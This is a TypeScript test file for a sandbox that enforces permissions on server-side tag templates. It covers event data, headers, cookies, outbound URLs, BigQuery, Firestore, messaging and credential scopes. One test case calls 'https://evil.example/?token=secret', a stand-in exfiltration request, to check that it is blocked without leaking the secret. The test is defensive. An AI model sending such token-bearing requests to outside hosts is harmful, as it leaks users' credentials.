/** What each permission covers, call by call. Source: Google, server-side permissions; parameters as exported templates write them. */
import { runTemplate } from './make-template.ts';
import type { PlainPermissions } from './make-template.ts';

const run = (code: string, permissions: PlainPermissions, type: 'TAG' | 'CLIENT' = 'TAG') =>
  runTemplate({ code, permissions, type }, { request: { headers: { host: 'x.example' } } });

const call = (name: string, args = '') => `require('${name}')(${args});`;

const SET_COOKIE = { name: 'a', domain: '*', path: '*', secure: 'any', session: 'any' };
const cookieRow = (row: Partial<typeof SET_COOKIE>) => ({
  set_cookies: { allowedCookies: [{ ...SET_COOKIE, ...row }] },
});
const requestPart = (params: Record<string, unknown>) => ({ read_request: { requestAccess: 'specific', ...params } });
const responsePart = (params: Record<string, unknown>) => ({
  access_response: { writeResponseAccess: 'specific', ...params },
});
const urls = (...list: string[]) => ({ send_http: { allowedUrls: 'specific', urls: list } });
const table = (row: Record<string, string>) => ({
  access_bigquery: { allowedTables: [{ projectId: 'p', datasetId: 'd', tableId: 't', operation: 'write', ...row }] },
});
const document = (row: Record<string, string>) => ({
  access_firestore: { allowedOptions: [{ projectId: 'p', path: 'users/*', operation: 'read', ...row }] },
});
const message = (row: Record<string, string>) => ({ use_message: { allowedActions: 'specific', messageTypes: [row] } });
const insert = "require('BigQuery').insert({projectId: 'p', datasetId: 'd', tableId: 't'}, []);";
const read = "require('Firestore').read('users/a', {projectId: 'p'}).catch(() => {});";

describe('a permission that covers the call lets it pass', () => {
  test.each<[string, string, PlainPermissions]>([
    ['any event data', call('getAllEventData'), { read_event_data: { eventDataAccess: 'any' } }],
    [
      'a named key',
      call('getEventData', "'a.b'"),
      { read_event_data: { eventDataAccess: 'specific', keyPatterns: ['a.b'] } },
    ],
    [
      'a key pattern',
      call('getEventData', "'items.0.id'"),
      { read_event_data: { eventDataAccess: 'specific', keyPatterns: ['items.*'] } },
    ],
    [
      'a named header in any case',
      call('getRequestHeader', "'User-Agent'"),
      requestPart({ headersAllowed: true, headerAccess: 'specific', headerWhitelist: [{ headerName: 'user-agent' }] }),
    ],
    ['any header', call('getRequestHeader', "'x'"), requestPart({ headersAllowed: true, headerAccess: 'any' })],
    ['the body', call('getRequestBody'), requestPart({ bodyAllowed: true })],
    ['the path', call('getRequestPath'), requestPart({ pathAllowed: true })],
    ['the address', call('getRemoteAddress'), requestPart({ remoteAddressAllowed: true })],
    [
      'a query parameter',
      call('getRequestQueryParameter', "'a'"),
      requestPart({
        queryParametersAllowed: true,
        queryParameterAccess: 'specific',
        queryParameterWhitelist: [{ queryParameter: 'a' }],
      }),
    ],
    ['the method, with any part', call('getRequestMethod'), requestPart({})],
    [
      'a named cookie',
      call('getCookieValues', "'_fbp'"),
      { get_cookies: { cookieAccess: 'specific', cookieNames: ['_fbp'] } },
    ],
    ['a cookie of the list', call('setCookie', "'a', '1', {domain: 'auto', secure: true}"), cookieRow({})],
    ['a cookie by *', call('setCookie', "'zz', '1'"), cookieRow({ name: '*' })],
    ['a secure cookie', call('setCookie', "'a', '1', {secure: true}"), cookieRow({ secure: 'secure' })],
    ['a cookie that stays', call('setCookie', "'a', '1', {'max-age': 5}"), cookieRow({ session: 'non_session' })],
    [
      'a URL below a host',
      call('sendHttpRequest', "'https://graph.facebook.com/v1/x?y=1'"),
      urls('https://graph.facebook.com/'),
    ],
    [
      'a Google domain',
      call('sendHttpGet', "'https://www.googleapis.com/x'"),
      { send_http: { allowedUrls: 'specific', allowGoogleDomains: true } },
    ],
    ['the body of the response', call('setResponseBody', "'a'"), responsePart({ writeBodyAllowed: true })],
    [
      'a header of the response',
      call('setResponseHeader', "'X-A', 'a'"),
      responsePart({
        writeHeadersAllowed: true,
        writeHeaderAccess: 'specific',
        writeHeaderWhitelist: [{ headerName: 'x-a' }],
      }),
    ],
    ['a table', insert, table({ datasetId: '*' })],
    ['a document', read, document({})],
    ['a document, read and write', read, document({ operation: 'read_write' })],
    ['a message', call('sendMessage', "'t', {}"), message({ type: 't', action: 'send' })],
    ['a scope', call('getGoogleAuth', "{scopes: ['s']}"), { use_google_credentials: { allowedScopes: ['s'] } }],
  ])('%s', async (_what, code, permissions) => {
    expect((await run(code, permissions)).error).toBeUndefined();
  });
});

describe('a permission that is too narrow stops the call and says what to add', () => {
  test.each<[string, PlainPermissions, string]>([
    [
      call('getAllEventData'),
      { read_event_data: { eventDataAccess: 'specific', keyPatterns: ['a'] } },
      'set eventDataAccess to "any"',
    ],
    [
      call('getEventData', "'b'"),
      { read_event_data: { eventDataAccess: 'specific', keyPatterns: ['a'] } },
      'add "b" to keyPatterns',
    ],
    [
      call('getRequestHeader', "'x-b'"),
      requestPart({ headersAllowed: true, headerAccess: 'specific', headerWhitelist: [{ headerName: 'x-a' }] }),
      'add "x-b" to headerWhitelist',
    ],
    [call('getRequestHeader', "'x-b'"), requestPart({}), 'set headersAllowed to true'],
    [call('getRequestBody'), requestPart({ headersAllowed: true }), 'set bodyAllowed to true'],
    [
      call('getRequestQueryString'),
      requestPart({ queryParametersAllowed: true, queryParameterAccess: 'specific' }),
      'set queryParameterAccess to "any"',
    ],
    [
      call('getCookieValues', "'_fbc'"),
      { get_cookies: { cookieAccess: 'specific', cookieNames: ['_fbp'] } },
      'add "_fbc" to cookieNames',
    ],
    [call('setCookie', "'b', '1'"), cookieRow({}), 'add a row for "b"'],
    [call('setCookie', "'a', '1'"), cookieRow({ secure: 'secure' }), 'add a row for "a"'],
    [call('setCookie', "'a', '1'"), cookieRow({ session: 'non_session' }), 'add a row for "a"'],
    [call('setCookie', "'a', '1', {'max-age': 5}"), cookieRow({ session: 'session' }), 'add a row for "a"'],
    [call('setCookie', "'a', '1', {secure: true}"), cookieRow({ secure: 'non_secure' }), 'add a row for "a"'],
    [call('setCookie', "'a', '1', {domain: 'x.example'}"), cookieRow({ domain: 'y.example' }), 'add a row for "a"'],
    [call('setCookie', "'a', '1', {path: '/x'}"), cookieRow({ path: '/' }), 'add a row for "a"'],
    [
      call('sendHttpRequest', "'https://evil.example/?token=secret'"),
      urls('https://graph.facebook.com/'),
      'add "https://evil.example/" to urls',
    ],
    [call('setResponseStatus', '200'), responsePart({ writeBodyAllowed: true }), 'set writeStatusAllowed to true'],
    [
      call('setPixelResponse'),
      responsePart({ writeBodyAllowed: true, writeStatusAllowed: true }),
      'set writeHeadersAllowed to true',
    ],
    [insert, table({ tableId: 'other' }), 'to allowedTables'],
    [read, document({ path: 'orders/*' }), 'to allowedOptions'],
    [read, document({ operation: 'write' }), 'with operation "read"'],
    [
      call('addMessageListener', "'t', () => {}"),
      message({ type: 't', action: 'send' }),
      'add {type: "t", action: "listen"}',
    ],
    [
      call('getGoogleAuth', "{scopes: ['s', 'r']}"),
      { use_google_credentials: { allowedScopes: ['s'] } },
      'add "r" to allowedScopes',
    ],
  ])('%s', async (code, permissions, remedy) => {
    const { error, requests } = await run(code, permissions);
    expect(error?.message).toContain(remedy);
    expect(error?.message).toMatch(/^\w+(\.\w+)?: the permission "\w+" does not cover it; /);
    expect(error?.message).not.toContain('secret');
    expect(requests).toEqual([]);
  });
});
